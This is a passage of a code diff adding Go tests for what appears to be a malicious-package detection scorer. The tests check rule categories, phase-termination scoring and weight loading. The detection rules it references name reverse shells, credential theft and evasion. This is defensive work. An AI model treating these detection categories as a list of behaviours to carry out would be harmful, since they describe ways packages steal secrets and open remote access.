+				lit, ok := vs.Values[i].(*ast.BasicLit)
+				if !ok || lit.Kind != gotoken.STRING {
+					t.Fatalf("%s in rules.go is not a string literal", name.Name)
+				}
+				rules = append(rules, constant.StringVal(constant.MakeFromLiteral(lit.Value, lit.Kind, 0)))
+			}
+		}
+	}
+	return rules
+}
+
+func TestRuleCategories(t *testing.T) {
+	categories := []string{
+		staticapi.CategoryNetwork, staticapi.CategoryFilesystem, staticapi.CategoryObfuscation,
+		staticapi.CategoryExecution, staticapi.CategoryCredentialTheft, staticapi.CategoryEvasion,
+	}
+	rules := builtinRules(t)
+	if !slices.Contains(rules, RulePossibleReverseShell) {
+		t.Fatalf("rules in rules.go = %v, want %s among them", rules, RulePossibleReverseShell)
+	}
+	for _, rule := range rules {
+		if c := RuleCategory(rule); !slices.Contains(categories, c) {
+			t.Errorf("RuleCategory(%q) = %q, want one of %v", rule, c, categories)
+		}
+	}
+}
+
+func TestScoreAbruptTermination(t *testing.T) {
+	static := &staticapi.Results{
+		Files: []staticapi.FileResult{
+			{Filename: "index.js", EarlyExits: []staticapi.EarlyExit{{Function: "process.exit"}}},
+		},
+	}
+	dynamic := &analysisrun.DynamicAnalysisData{
+		StraceSummary: analysisrun.DynamicAnalysisStraceSummary{
+			analysisrun.DynamicPhaseInstall: {
+				Termination: analysisrun.TerminationResult{Reason: analysisrun.TerminationSignal, Signal: "SIGTERM"},
+			},
+			analysisrun.DynamicPhaseImport: {
+				Termination: analysisrun.TerminationResult{Reason: analysisrun.TerminationExit, ExitCode: 3},
+			},
+		},
+	}
+
+	got := New(Weights(map[string]float64{RuleEarlyExit: 0})).Score(static, dynamic)
+	want := []string{"install: killed by SIGTERM (process.exit in index.js)", "import: exit(3) (process.exit in index.js)"}
+	if len(got.Contributions) != 1 || !reflect.DeepEqual(got.Contributions[0].Examples, want) {
+		t.Errorf("Score() contributions = %+v, want examples %v", got.Contributions, want)
+	}
+}
+
+func TestLoadWeights(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, content string) string {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+
+	got, err := LoadWeights(write("valid.json", `{"static.indirect_eval": 3, "dynamic.command": 0}`))
+	if err != nil {
+		t.Fatalf("LoadWeights() error = %v", err)
+	}
+	if want := map[string]float64{RuleIndirectEval: 3, RuleCommand: 0}; !reflect.DeepEqual(got, want) {
+		t.Errorf("LoadWeights() = %v, want %v", got, want)
+	}
+
+	if _, err := LoadWeights(write("unknown.json", `{"static.evil": 1}`)); !errors.Is(err, ErrUnknownRule) {
+		t.Errorf("LoadWeights() error = %v, want %v", err, ErrUnknownRule)
+	}
+	if _, err := LoadWeights(write("invalid.json", `[1, 2]`)); err == nil {
+		t.Errorf("LoadWeights() of invalid JSON succeeded")
+	}
+}